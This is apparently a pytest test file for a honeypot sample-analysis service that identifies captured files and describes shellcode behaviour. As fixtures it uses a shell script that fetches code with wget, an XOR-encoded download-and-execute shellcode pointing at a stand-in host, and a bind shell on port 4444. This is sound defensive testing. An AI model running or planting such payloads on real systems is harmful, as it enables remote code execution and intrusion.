"""New samples are looked at, once, and what is found goes the way of all facts."""

from __future__ import annotations

import asyncio
import json
import os
import signal
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from eudaemon.events import catalogue as facts
from eudaemon.farm.queries.samples import identities
from eudaemon.farm.samples import identifier
from eudaemon.farm.server import Farm
from eudaemon.payload.identify import Identity
from eudaemon.payload.shellcode.apart import Bench
from farm.farms import Uplink, event, running, sha256
from payload.shellcode.assembling import assemble, under_xor
from payload.shellcode.shellcodes import BIND_I386, download_and_execute

# A header that names a machine, and nothing that runs.
ELF = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x28\x00" + bytes(300)


@pytest.fixture
async def farm(tmp_path: Path) -> AsyncIterator[Farm]:
    async with running(tmp_path) as started:
        yield started


async def identified(farm: Farm, count: int) -> dict[str, dict[str, object]]:
    """Wait for so many identities; return them by hash."""
    async with asyncio.timeout(20):
        while True:
            rows = await farm.store.query("SELECT sensor, sha256, fields FROM events WHERE kind = 'sample.identified'")
            if len(rows) >= count:
                assert {row["sensor"] for row in rows} == {"farm"}
                assert len(rows) == len({row["sha256"] for row in rows})
                return {row["sha256"]: json.loads(row["fields"]) for row in rows}
            await asyncio.sleep(0.02)


async def test_a_new_sample_is_identified_and_a_conversation_is_not(farm: Farm) -> None:
    talk = b"EUDCONV1"
    with farm.hub.subscribe() as feed:
        async with Uplink(farm) as uplink:
            for data in (ELF, b"#!/bin/sh\nwget http://x/\n", talk):
                await uplink.put(data)
            closed = facts.SessionClosed("telnet", "peer", 1.0, 5, 5, sha256(talk))
            kept = [facts.ArtefactKept(sha256(d), len(d), "upload") for d in (ELF, b"#!/bin/sh\nwget http://x/\n")]
            # The same sample twice, and again in a later batch: looked at once.
            await uplink.send([event(fact) for fact in (*kept, kept[0], closed)])
            found = await identified(farm, 2)
            await uplink.send([event(kept[0])], first=4)
            await asyncio.sleep(0.1)
        shown = [feed.get_nowait() for _ in range(feed.qsize())]
    assert set(found) == {kept[0].sha256, kept[1].sha256}
    assert found[kept[0].sha256]["format"] == "elf"
    assert found[kept[1].sha256]["format"] == "script"
    assert found[kept[0].sha256]["size"] == len(ELF)
    assert len([row for row in shown if row["kind"] == "sample.identified"]) == 2
    assert farm.samples.catalogue.unidentified(10) == []
    entry = farm.samples.catalogue.get(kept[0].sha256)
    assert entry is not None
    assert (entry.format, entry.fuzzy) == ("elf", found[kept[0].sha256]["fuzzy"])


async def test_a_shellcode_says_what_it_does(tmp_path: Path) -> None:
    code, other = under_xor(download_and_execute(), 0x99), b"\x01\x02\x03" * 100
    async with running(tmp_path, bench=Bench()) as farm, Uplink(farm) as uplink:
        for data in (code, other, ELF):
            await uplink.put(data)
        await uplink.send([event(facts.ArtefactKept(sha256(d), len(d), "upload")) for d in (code, other, ELF)])
        found = await identified(farm, 3)
        shown = await identities(farm.store, [sha256(code)])
        door = assemble("x86", BIND_I386)
        await uplink.put(door)
        quiet = await uplink.send([event(facts.ArtefactKept(sha256(door), len(door), "payload"))], first=3)
        await identified(farm, 4)
        told = await uplink.send([], first=4)
    said = ["downloads http://203.0.113.7:8080/a.exe to c:\\a.exe", "executes c:\\a.exe"]
    assert found[sha256(code)]["does"] == said
    assert shown[sha256(code)]["does"] == said  # as the sample's page has it
    assert [found[sha256(data)].get("does", []) for data in (other, ELF)] == [[], []]
    assert "shellcodes" not in quiet.json()
    opens = {"way": "bind", "system": "linux", "host": "0.0.0.0", "port": 4444}
    assert told.json()["shellcodes"] == [{"sha256": sha256(door), "shells": [opens]}], "to who brought it"


async def test_a_sample_that_the_examination_does_not_survive_is_identified_all_the_same(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    bench = Bench()
    os.kill(bench.process, signal.SIGKILL)
    code = download_and_execute()
    async with running(tmp_path, bench=bench) as farm, Uplink(farm) as uplink:
        await uplink.put(code)
        await uplink.send([event(facts.ArtefactKept(sha256(code), len(code), "upload"))])
        found = await identified(farm, 1)
    assert found[sha256(code)]["format"] == "data"
    assert found[sha256(code)].get("does", []) == []
    assert "could not be examined for a shellcode: the process for it is gone" in caplog.text


async def test_what_was_not_looked_at_before_a_stop_is_afterwards(tmp_path: Path) -> None:
    async with running(tmp_path) as farm:
        farm.identifier.wake = lambda: None  # type: ignore[method-assign]
        farm._intake._to.__dict__["sample_came"] = lambda: None
        async with Uplink(farm) as uplink:
            await uplink.put(ELF)
            await uplink.send([event(facts.ArtefactKept(sha256(ELF), len(ELF), "upload"))])
    async with running(tmp_path) as farm:
        assert sha256(ELF) in await identified(farm, 1)


async def test_a_sample_that_breaks_us_is_told_and_stops_nothing(
    farm: Farm, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def break_at_elf(data: bytes) -> Identity:
        if data == ELF:
            raise IndexError("made to break")
        return Identity("data", "data")

    monkeypatch.setattr(identifier, "identify", break_at_elf)
    async with Uplink(farm) as uplink:
        for data in (ELF, b"other"):
            await uplink.put(data)
        await uplink.send([event(facts.ArtefactKept(sha256(d), len(d), "upload")) for d in (ELF, b"other")])
    found = await identified(farm, 2)
    assert "fault of ours" in str(found[sha256(ELF)]["description"])
    assert found[sha256(b"other")]["format"] == "data"
    assert farm.identifier.faults == 1
    assert "made to break" in caplog.text
